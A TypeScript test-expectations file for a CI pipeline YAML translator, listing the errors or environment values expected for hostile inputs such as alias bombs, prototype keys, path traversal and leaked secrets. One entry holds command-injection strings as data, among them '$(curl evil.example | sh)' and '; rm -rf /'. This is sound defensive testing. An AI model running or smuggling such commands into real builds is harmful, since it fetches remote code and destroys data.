/**
 * What each hand-written hostile input in this directory must give: its problems (code, field,
 * line and column, in the order reported) or, when it is legitimate, the values it must reach
 * the builder as. Every file in pipelines/ and connectors/ has an entry, and every entry a file.
 */

export interface ExpectedProblem {
  code: string;
  field?: string;
  line: number;
  column: number;
  /** Words the message must hold (e.g. both positions of a duplicate key). */
  says?: string;
}

export type Expectation =
  | { problems: ExpectedProblem[] }
  | {
      /** Plain environment values of the step's container, by step identifier. */
      env: Record<string, Record<string, string>>;
    };

const step = (field: string, line: number, column: number, code: string, says?: string): ExpectedProblem => ({ code, field: field.startsWith("[") ? `spec${field}` : `spec.${field}`, line, column, ...(says ? { says } : {}) });

/** Pipelines, translated with the bundled connectors (examples/connectors.yaml). */
export const pipelineExpectations: Record<string, Expectation> = {
  "alias-bomb.yaml": { problems: [{ code: "yaml-syntax", line: 6, column: 42, says: "Excessive alias count" }] },
  "deep-nesting.yaml": { problems: [{ code: "yaml-syntax", line: 25, column: 118, says: "more than 100 levels" }] },
  "duplicate-key.yaml": { problems: [{ code: "yaml-duplicate-key", line: 23, column: 21, says: "first defined at line 21, column 21" }] },
  "duplicate-key-typed.yaml": { problems: [{ code: "yaml-duplicate-key", line: 25, column: 23, says: "first defined at line 24, column 23" }] },
  "prototype-keys-as-data.yaml": {
    env: { push: { PLUGIN_BUILD_ARGS: "__proto__=polluted=true,toString=x", PLUGIN_CUSTOM_LABELS: "__proto__=plain data,constructor=plain data too,prototype={}" } },
  },
  "prototype-keys-in-step.yaml": {
    problems: [
      { code: "unknown-field", field: "__proto__", line: 19, column: 19 },
      step("__proto__", 24, 21, "unknown-field"),
      step("constructor", 26, 21, "unknown-field"),
    ],
  },
  "prototype-variable-names.yaml": {
    problems: [step("envVariables.__proto__", 24, 23, "invalid-env-name", "__proto__"), { code: "invalid-env-name", field: "pipeline.stages[0].stage.variables[0].name", line: 26, column: 19 }],
  },
  "control-characters.yaml": {
    problems: [{ code: "invalid-character", field: "name", line: 17, column: 25, says: "U+000A" }, step('labels["multi\\nline"]', 24, 23, "invalid-character", "U+000A"), step("buildArgs.NUL", 27, 28, "invalid-character", "U+0000"), step("buildArgs.ESCAPE", 28, 31, "invalid-character", "U+001B")],
  },
  "control-characters-in-tags.yaml": { problems: [step("tags[0]", 22, 28, "invalid-character", "U+001B"), step("tags[1]", 22, 43, "invalid-character", "U+000A")] },
  "option-like-values.yaml": {
    problems: [step("context", 23, 30, "invalid-path", "starts with -"), step("dockerfile", 24, 33, "invalid-path", "starts with -"), step("target", 25, 29, "invalid-target")],
  },
  "dotdot-escapes.yaml": { problems: [step("context", 23, 30, "invalid-path", "climb out"), step("dockerfile", 24, 33, "invalid-path", "climb out")] },
  "absolute-paths.yaml": { problems: [step("context", 23, 30, "invalid-path", "outside the workspace /harness"), step("dockerfile", 24, 33, "invalid-path", "outside the workspace /harness")] },
  "dotdot-inside-workspace.yaml": { env: { push: { PLUGIN_CONTEXT: "app/../app", PLUGIN_DOCKERFILE: "/harness/docker/../Dockerfile" } } },
  "shell-and-option-values.yaml": {
    env: { push: { PLUGIN_BUILD_ARGS: "CMD=$(curl evil.example | sh),TICKS=`id`,SEMI=x; rm -rf /,FLAG=--privileged,QUOTES='\"'", PLUGIN_CUSTOM_LABELS: "--label=--build-arg=X=1,$(id)=${HOME}" } },
  },
  "runtime-flag-paths.yaml": {
    problems: [
      step("envVariables.PLUGIN_CONTEXT", 24, 39, "invalid-path", "climb out of the workspace"),
      step("envVariables.PLUGIN_CONTEXT_SUB_PATH", 25, 48, "invalid-path", "climb out of the context"),
      step("envVariables.PLUGIN_DOCKERFILE", 26, 42, "invalid-path", "outside the workspace"),
    ],
  },
  "runtime-flag-unparsable.yaml": { problems: [{ code: "invalid-runtime-flag", field: "spec.envVariables.PLUGIN_NO_PUSH", line: 24, column: 23, says: "could not parse" }] },
  "secret-variable-with-a-value.yaml": { problems: [{ code: "invalid-secret-reference", field: "pipeline.stages[0].stage.variables[0].value", line: 26, column: 20, says: "not shown" }] },
  "shared-paths.yaml": {
    problems: [0, 2, 3, 4, 5].map((index, n) => ({ code: "invalid-path", field: `pipeline.stages[0].stage.spec.sharedPaths[${index}]`, line: 10, column: [25, 47, 58, 74, 88][n]! })),
  },
  "language-tags.yaml": { problems: [{ code: "yaml-unsupported", line: 23, column: 32, says: "not repeated" }, { code: "yaml-unsupported", line: 24, column: 29, says: "not repeated" }] },
  "merge-key.yaml": { problems: [{ code: "yaml-unsupported", line: 28, column: 21, says: "merge key" }] },
  "merge-key-yaml-1.1.yaml": { problems: [{ code: "yaml-unsupported", line: 30, column: 21, says: "merge key" }, { code: "yaml-unsupported", line: 32, column: 23, says: "merge key" }] },
  "explicit-tags.yaml": {
    problems: [
      { code: "yaml-unsupported", line: 15, column: 23, says: "!!omap" },
      { code: "yaml-unsupported", line: 27, column: 29, says: "!!omap" },
      { code: "yaml-unsupported", line: 28, column: 32, says: "!!set" },
      { code: "yaml-unsupported", line: 29, column: 35, says: "!!omap" },
      { code: "yaml-unsupported", line: 30, column: 32, says: "!!omap" },
      { code: "yaml-unsupported", line: 38, column: 28, says: "!!timestamp" },
      { code: "yaml-unsupported", line: 38, column: 52, says: "not repeated" },
      { code: "yaml-unsupported", line: 39, column: 32, says: "!!binary" },
    ],
  },
  "security-context-types.yaml": {
    problems: [
      { code: "wrong-type", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.runAsNonRoot", line: 15, column: 31 },
      { code: "wrong-type", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.allowPrivilegeEscalation", line: 16, column: 43 },
      { code: "wrong-type", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.privileged", line: 17, column: 29 },
      { code: "unknown-field", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.readOnlyRootFileSystem", line: 18, column: 17, says: "readOnlyRootFileSystem" },
      { code: "invalid-run-as-user", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.runAsUser", line: 19, column: 28, says: "Invalid value 1e400" },
      { code: "wrong-type", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.capabilities.drop", line: 21, column: 25 },
      { code: "wrong-type", field: "pipeline.stages[0].stage.spec.infrastructure.spec.containerSecurityContext.capabilities.add[1]", line: 22, column: 36 },
    ],
  },
  "connector-scopes.yaml": {
    problems: [step("connectorRef", 22, 35, "unknown-connector", "defined in the account"), step("connectorRef", 30, 35, "unknown-connector", "not defined in organization default")],
  },
  "pipeline-scope-identifiers.yaml": {
    problems: [
      { code: "invalid-identifier", field: "pipeline.orgIdentifier", line: 4, column: 18, says: "looked up as if the pipeline named no organization" },
      { code: "wrong-type", field: "pipeline.projectIdentifier", line: 5, column: 22 },
    ],
  },
  "duplicate-variables.yaml": {
    problems: [
      { code: "duplicate-variable", field: "pipeline.variables[1].name", line: 6, column: 14, says: "pipeline.variables[0] (String) and pipeline.variables[1] (String)" },
      { code: "duplicate-variable", field: "pipeline.stages[0].stage.variables[2].name", line: 15, column: 20, says: "variables[0] (Secret) and pipeline.stages[0].stage.variables[2] (String)" },
    ],
  },
  "stage-identifiers.yaml": {
    problems: [
      { code: "invalid-identifier", field: "pipeline.stages[0].stage.identifier", line: 6, column: 21 },
      // Every stage is the anchored one, so each later stage pushes acme/app:latest again (issue 14's warning, at the shared line).
      ...Array.from({ length: 4 }, (): ExpectedProblem => ({ code: "duplicate-push", field: "spec.tags[0]", line: 22, column: 28, says: "acme/app:latest is pushed by step" })),
      { code: "invalid-identifier", field: "pipeline.stages[1].stage.identifier", line: 24, column: 21, says: "\\r\\n" },
      { code: "missing-field", field: "pipeline.stages[2].stage.identifier", line: 28, column: 7 },
      { code: "invalid-identifier", field: "pipeline.stages[3].parallel[1].stage.identifier", line: 39, column: 25, says: "earlier stage" },
    ],
  },
  "remote-contexts.yaml": {
    problems: [
      step("context", 23, 30, "invalid-path", "outside the workspace"),
      step("context", 32, 30, "invalid-path", "climb out"),
      step("context", 41, 30, "invalid-path", "remote source (s3://)"),
      step("context", 50, 30, "invalid-path", "remote source (gs://)"),
      step("context", 59, 30, "invalid-path", "remote source (git://)"),
      step("context", 68, 30, "invalid-path", "remote source (https://)"),
      step("context", 77, 30, "invalid-path", "remote source (tar://)"),
      step("dockerfile", 86, 33, "invalid-path", "remote source (https://)"),
      step("envVariables.PLUGIN_CONTEXT", 96, 39, "invalid-path", "remote source (s3://)"),
    ],
  },
  "local-context-forms.yaml": { env: { dir: { PLUGIN_CONTEXT: "dir://app" }, github_dir: { PLUGIN_CONTEXT: "github.com/acme/app" } } },
  "timeouts.yaml": {
    problems: [
      // The month step pushes the longest step's acme/app:latest again (issue 14's warning).
      { code: "duplicate-push", field: "spec.tags[0]", line: 32, column: 28, says: "pushed by step build/longest" },
      { code: "invalid-timeout", field: "timeout", line: 37, column: 28, says: "longer than 53w" },
      { code: "invalid-timeout", field: "timeout", line: 46, column: 28, says: "longer than 53w" },
      { code: "invalid-timeout", field: "timeout", line: 55, column: 28, says: "zero" },
    ],
  },
  "acr-registry-hosts.yaml": { problems: [53, 61, 69, 77, 85].map((line) => step("repository", line, 33, "invalid-repository", "not an Azure registry host")) },
  "yaml-1.1-scalars.yaml": {
    env: { push: { PLUGIN_TAGS: "1.10,yes,010,0o17,on", PLUGIN_BUILD_ARGS: "SIXTY=1:20,NO=no,OCTAL=010", PLUGIN_CUSTOM_LABELS: "<<=a label named <<,when=2001-12-14" } },
  },
  "tabs-and-unclosed.yaml": {
    problems: [
      { code: "yaml-syntax", line: 2, column: 1, says: "Tabs" },
      { code: "yaml-syntax", line: 2, column: 14 },
      { code: "yaml-syntax", line: 2, column: 14 },
      { code: "yaml-syntax", line: 4, column: 1 },
    ],
  },
};

/** Connector files, parsed and put in one ConnectorSet. None may repeat the planted PLAINTEXT. */
export const connectorExpectations: Record<string, Expectation> = {
  "literal-secrets.yaml": {
    problems: [
      { code: "invalid-connector", field: "connector.spec.auth.spec.password", line: 11, column: 9, says: "not shown" },
      { code: "missing-connector-secret", field: "connector.spec.auth.spec.passwordRef", line: 9, column: 7 },
      { code: "invalid-connector", field: "connector.spec.auth.spec.passwordRef", line: 22, column: 22, says: "not shown" },
      { code: "missing-connector-secret", field: "connector.spec.auth.spec.passwordRef", line: 22, column: 9 },
      { code: "invalid-connector", field: "connector.spec.credential.spec.secretKey", line: 32, column: 9, says: "not shown" },
      { code: "missing-connector-secret", field: "connector.spec.credential.spec.secretKeyRef", line: 30, column: 7 },
    ],
  },
  "pasted-gcp-key.yaml": {
    problems: [
      { code: "invalid-connector", field: "connector.spec.credential.spec.secretKeyRef", line: 10, column: 9, says: "not shown" },
      { code: "invalid-connector", field: "connector.spec.credential.spec.secretKeyRef", line: 26, column: 9, says: "not shown" },
    ],
  },
  "secret-shaped-yaml-errors.yaml": { problems: [{ code: "yaml-syntax", line: 12, column: 22, says: "not repeated" }] },
  "block-scalar-secret.yaml": { problems: [{ code: "yaml-syntax", line: 10, column: 23, says: "not repeated" }] },
  "prototype-keys.yaml": { env: {} },
  "option-like-and-control-values.yaml": {
    problems: [
      { code: "invalid-registry", field: "connector.spec.dockerRegistryUrl", line: 5, column: 24 },
      { code: "invalid-registry", field: "connector.spec.dockerRegistryUrl", line: 13, column: 24 },
      { code: "invalid-character", field: "connector.spec.auth.spec.username", line: 25, column: 19, says: "not shown" },
      { code: "missing-connector-secret", field: "connector.spec.auth.spec.username", line: 25, column: 9 },
    ],
  },
  "project-scoped.yaml": { env: {} },
  "password-in-url.yaml": {
    problems: [6, 13, 20, 27, 34, 41].map((line) => ({ code: "invalid-registry", field: "connector.spec.dockerRegistryUrl", line, column: 24, says: "(the URL is not shown)" })),
  },
  "duplicate-identifier.yaml": { problems: [{ code: "duplicate-connector", field: "connector.identifier", line: 7, column: 3, says: "first defined at duplicate-identifier.yaml:2:3" }] },
};

/** Planted in the connector files as a stand-in secret: no output may contain it. */
export const plantedSecret = "PLAINTEXT";
